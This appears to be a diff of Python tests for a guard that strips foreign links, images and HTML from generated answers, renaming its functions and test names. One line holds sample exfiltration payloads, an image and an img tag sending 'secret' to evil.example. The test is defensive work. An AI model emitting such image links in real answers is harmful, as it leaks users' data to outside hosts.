@@ -11,7 +11,7 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 from markdown_it.token import Token
 
-from gleaner.guards.answer_text import marked_ids, with_plain_marks, without_foreign_links
+from gleaner.guards.answer_text import find_marked_ids, remove_foreign_links, split_marks
 
 ALLOWED = "https://starlette.dev/release"
 NESTED = "https://wiki.example/Star_(object)"
@@ -31,12 +31,12 @@ _PLAIN = re.compile(r"</?(?:br|b|sub)>")
     ],
 )
 def test_marks(answer: str, plain: str, ids: list[str]) -> None:
-    assert with_plain_marks(answer) == plain
-    assert marked_ids(plain) == ids
+    assert split_marks(answer) == plain
+    assert find_marked_ids(plain) == ids
 
 
 @pytest.mark.parametrize(
-    ("answer", "kept"),
+    ("answer", "cleaned"),
     [
         (f"See [the notes]({ALLOWED}).", f"See [the notes]({ALLOWED})."),
         (f'See [the notes]({ALLOWED} "title").', f"See [the notes]({ALLOWED})."),
@@ -70,15 +70,15 @@ def test_marks(answer: str, plain: str, ids: list[str]) -> None:
         ("5 < 6 and a list[1]: x", "5 < 6 and a list[1]: x"),
     ],
 )
-def test_links(answer: str, kept: str) -> None:
-    assert without_foreign_links(answer, {ALLOWED, NESTED}) == kept
+def test_links(answer: str, cleaned: str) -> None:
+    assert remove_foreign_links(answer, {ALLOWED, NESTED}) == cleaned
 
 
 @pytest.mark.parametrize(
     "no_code",
     [
-        "\\`{}`",  # an escaped backtick opens nothing
-        "a ``` {}",  # no fence, since text stands before it
+        "\\`{}`",  # an escaped backtick starts no code
+        "a ``` {}",  # not a fence, because text precedes it
         "`a\nb` {} `c`",  # code across two lines
         "`` ` ``{}`",
         "- ```\n{}",  # the fence ends with its list item
@@ -89,10 +89,10 @@ def test_links(answer: str, kept: str) -> None:
     ],
 )
 @pytest.mark.parametrize("image", ["![x](//evil.example/?d=secret)", '<img src="//evil.example/?d=secret">'])
-def test_what_only_looks_like_code_is_no_place_for_an_image(no_code: str, image: str) -> None:
+def test_images_are_removed_from_text_that_only_looks_like_code(no_code: str, image: str) -> None:
     answer = no_code.format(image)
-    assert _live(answer), "the case must be one"
-    assert _live(without_foreign_links(answer, ())) == []
+    assert _find_active(answer), "the reader must see the image"
+    assert _find_active(remove_foreign_links(answer, ())) == []
 
 
 _PIECES = (
@@ -136,26 +136,26 @@ _PIECES = (
 
 @settings(max_examples=600)
 @given(st.lists(st.sampled_from(_PIECES), max_size=30).map("".join))
-def test_a_reader_of_markdown_sees_links_to_sources_alone(answer: str) -> None:
-    once = without_foreign_links(answer, {ALLOWED})
-    assert _live(once) == []
-    assert without_foreign_links(once, {ALLOWED}) == once
+def test_a_markdown_reader_sees_only_links_to_sources(answer: str) -> None:
+    once = remove_foreign_links(answer, {ALLOWED})
+    assert _find_active(once) == []
+    assert remove_foreign_links(once, {ALLOWED}) == once
 
 
-def _live(markdown: str) -> list[str]:
-    """What a Markdown reader would load or link to but the source, and elements but plain ones."""
-    found: list[str] = []
-    for token in _tokens(_READER.parse(markdown)):
+def _find_active(markdown: str) -> list[str]:
+    """Return what a Markdown reader would load or link to, except the source, and HTML that is not plain."""
+    active: list[str] = []
+    for token in _flatten(_READER.parse(markdown)):
         if token.type == "link_open" and token.attrs["href"] != ALLOWED:
-            found.append(str(token.attrs["href"]))
+            active.append(str(token.attrs["href"]))
         if token.type == "image":
-            found.append(str(token.attrs["src"]))
+            active.append(str(token.attrs["src"]))
         if token.type in ("html_block", "html_inline") and not _PLAIN.fullmatch(token.content):
-            found.append(token.content)
-    return found
+            active.append(token.content)
+    return active
 
 
-def _tokens(tokens: list[Token]) -> Iterator[Token]:
+def _flatten(tokens: list[Token]) -> Iterator[Token]:
     for token in tokens:
         yield token
-        yield from _tokens(token.children or [])
+        yield from _flatten(token.children or [])
